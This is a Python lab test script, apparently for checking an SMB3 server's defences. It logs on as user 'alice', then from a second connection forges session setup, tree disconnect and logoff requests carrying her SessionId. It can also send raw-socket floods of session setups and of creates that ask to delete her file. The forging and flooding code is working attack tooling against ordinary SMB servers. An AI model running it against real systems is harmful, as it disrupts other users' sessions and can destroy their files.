#!/usr/bin/python3
"""Plays a hostile client next to alice: alice logs on and connects docs over SMB3, then
another connection of the same machine (another source port) sends one forged request
carrying alice's SessionId, or a flood goes by from random source ports without any logon:
session set-ups (flood:N), or tree connects and creates (connects:N, the creates carrying
alice's SessionId, her tree and message ids near hers, asking to delete old.txt).
Afterwards alice tries to delete old.txt on her tree; during a connects flood she tries
again and again while it runs.

Prints, one per line: what the forged request was answered (its NT status name, "none"
when the server sent nothing back, or the flood's figures; a connects flood adds
";during:" and each status alice's deletes drew while it ran, with their count), what
alice's delete was answered ("ok" or the NT status name), and "alive" when her session
still lists docs.

usage: forged_requests.py SERVER_IP ALICE_PASSWORD
           setup|tree-disconnect|logoff|flood:N|connects:N
Runs inside the lab's client namespace (impacket from Debian's python3-impacket).
"""
import os
import random
import socket
import struct
import sys
import time

from impacket import nt_errors, smb3
from impacket.smbconnection import SMBConnection

DELETE, SHARE_ALL, FILE_OPEN, DELETE_ON_CLOSE = 0x10000, 7, 1, 0x1000
NEGOTIATE, SESSION_SETUP, LOGOFF, TREE_CONNECT, TREE_DISCONNECT, CREATE = 0, 1, 2, 3, 4, 5


def status_name(code):
    return nt_errors.ERROR_MESSAGES.get(code, ("0x%08X" % code,))[0]


def smb2(command, message_id, session, tree, body):
    header = struct.pack("<4sHHIHHIIQIIQ16s", b"\xfeSMB", 64, 0, 0, command, 1, 0, 0,
                         message_id, 0, tree, session, b"")
    message = header + body
    return struct.pack(">I", len(message)) + message


def ntlm_authenticate(user, domain, workstation):
    """An NTLMSSP AUTHENTICATE_MESSAGE naming `user`, with empty responses: the server
    cannot accept it, the names are all it carries."""
    names = [n.encode("utf-16le") for n in (domain, user, workstation)]
    fields, offset = b"", 88
    for name in names:
        fields += struct.pack("<HHI", len(name), len(name), offset)
        offset += len(name)
    empty = struct.pack("<HHI", 0, 0, offset)
    message = (b"NTLMSSP\0" + struct.pack("<I", 3) + empty + empty + fields + empty +
               struct.pack("<I", 0x00088201) + b"\0" * 24)
    return message + b"".join(names)


def session_setup(message_id, session, blob, flags=0):
    body = struct.pack("<HBBIIHHQ", 25, flags, 1, 0, 0, 64 + 24, len(blob), 0)
    return smb2(SESSION_SETUP, message_id, session, 0, body + blob)


def tree_connect(message_id, session, path):
    name = path.encode("utf-16le")
    return smb2(TREE_CONNECT, message_id, session, 0,
                struct.pack("<HHHH", 9, 0, 64 + 8, len(name)) + name)


def create(message_id, session, tree, name, access, options):
    name = name.encode("utf-16le")
    body = struct.pack("<HBBIQQIIIIIHHII", 57, 0, 0, 2, 0, 0, access, 0, SHARE_ALL, FILE_OPEN,
                       options, 64 + 56, len(name), 0, 0)
    return smb2(CREATE, message_id, session, tree, body + name)


def receive(sock):
    """The status of the next answer, or None when the server answered nothing."""
    sock.settimeout(3)
    try:
        head = sock.recv(4, socket.MSG_WAITALL)
        if len(head) < 4:
            return None
        message = sock.recv(struct.unpack(">I", head)[0] & 0xFFFFFF, socket.MSG_WAITALL)
    except (socket.timeout, ConnectionError):
        return None
    return struct.unpack("<I", message[8:12])[0]


def forge(server, kind, session, tree):
    """One forged request on a connection of its own, after a NEGOTIATE for SMB 3.0."""
    sock = socket.create_connection((server, 445))
    negotiate = struct.pack("<HHHHI16sQH", 36, 1, 1, 0, 0, os.urandom(16), 0, 0x0300)
    sock.sendall(smb2(NEGOTIATE, 0, 0, 0, negotiate))
    receive(sock)
    if kind == "setup":
        message = session_setup(1, session, ntlm_authenticate("bob", "TESTDOM", "EVIL"))
    elif kind == "tree-disconnect":
        message = smb2(TREE_DISCONNECT, 1, session, tree, struct.pack("<HH", 4, 0))
    else:
        message = smb2(LOGOFF, 1, session, 0, struct.pack("<HH", 4, 0))
    sock.sendall(message)
    status = receive(sock)
    sock.close()
    return "none" if status is None else status_name(status)


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def flood(server, count, payload):
    """`count` frames, the n-th carrying payload(n), each from a random source port on no
    connection the server knows, put on the wire as raw frames. Returns the figures as one
    word."""
    route = os.popen("ip -o route get %s" % server).read().split()
    device, client = route[route.index("dev") + 1], route[route.index("src") + 1]
    with open("/sys/class/net/%s/address" % device) as f:
        own_mac = bytes.fromhex(f.read().strip().replace(":", ""))
    server_mac = None
    for line in open("/proc/net/arp").read().splitlines()[1:]:
        fields = line.split()
        if fields[0] == server:
            server_mac = bytes.fromhex(fields[3].replace(":", ""))
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((device, 0))
    source, target = socket.inet_aton(client), socket.inet_aton(server)
    started = time.monotonic()
    for n in range(count):
        message = payload(n)
        tcp = struct.pack("!HHIIBBHHH", random.randint(1024, 65535), 445,
                          random.getrandbits(32), random.getrandbits(32), 5 << 4, 0x18,
                          8192, 0, 0)
        length = 20 + len(tcp) + len(message)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, n & 0xFFFF, 0x4000, 64, 6, 0,
                         source, target)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        raw.send(server_mac + own_mac + b"\x08\x00" + ip + tcp + message)
    seconds = time.monotonic() - started
    raw.close()
    return "%d-frames-in-%.1fs" % (count, seconds)


def setups(n):
    """A SESSION_SETUP naming bob under a random SessionId."""
    return session_setup(random.getrandbits(40), random.getrandbits(63) | 1,
                         ntlm_authenticate("bob", "TESTDOM", "EVIL"))


def delete_old(alice, tree):
    """Alice's delete of old.txt: "ok" or the NT status name."""
    try:
        fid = alice.create(tree, "old.txt", DELETE, SHARE_ALL, DELETE_ON_CLOSE, FILE_OPEN, 0)
        alice.close(tree, fid)
        return "ok"
    except smb3.SessionError as e:
        return status_name(e.get_error_code())


def connects_during(server, count, alice, tree, session):
    """Tree connects under random SessionIds and creates that ask to delete old.txt under
    alice's SessionId and tree, with message ids around hers, from random ports; alice
    deletes old.txt while they go by. Returns the flood's figures and her answers."""
    path = "\\\\%s\\docs" % server

    def payload(n):
        if n % 2:
            return tree_connect(random.getrandbits(40), random.getrandbits(63) | 1, path)
        return create(random.getrandbits(8), session, tree, "old.txt", DELETE, DELETE_ON_CLOSE)
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(read)
        os.write(write, flood(server, count, payload).encode())
        os._exit(0)
    os.close(write)
    answers = {}
    while os.waitpid(child, os.WNOHANG) == (0, 0):
        answer = delete_old(alice, tree)
        answers[answer] = answers.get(answer, 0) + 1
    figures = os.read(read, 200).decode()
    os.close(read)
    return "%s;during:%s" % (figures, ",".join("%s:%d" % a for a in sorted(answers.items())))


def main():
    server, password, kind = sys.argv[1:4]
    conn = SMBConnection(server, server, preferredDialect=smb3.SMB2_DIALECT_30)
    conn.login("alice", password, "TESTDOM")
    alice = conn.getSMBServer()
    tree = alice.connectTree("docs")
    session = alice._Session["SessionID"]
    if kind.startswith("flood:"):
        print("flood:" + flood(server, int(kind.split(":")[1]), setups))
    elif kind.startswith("connects:"):
        print("connects:" + connects_during(server, int(kind.split(":")[1]), alice, tree, session))
    else:
        print(forge(server, kind, session, tree))
    print(delete_old(alice, tree))
    try:
        conn.listPath("docs", "\\*")
        print("alive")
    except Exception as e:  # the session must survive
        print("dead: %s" % e)


if __name__ == "__main__":
    main()
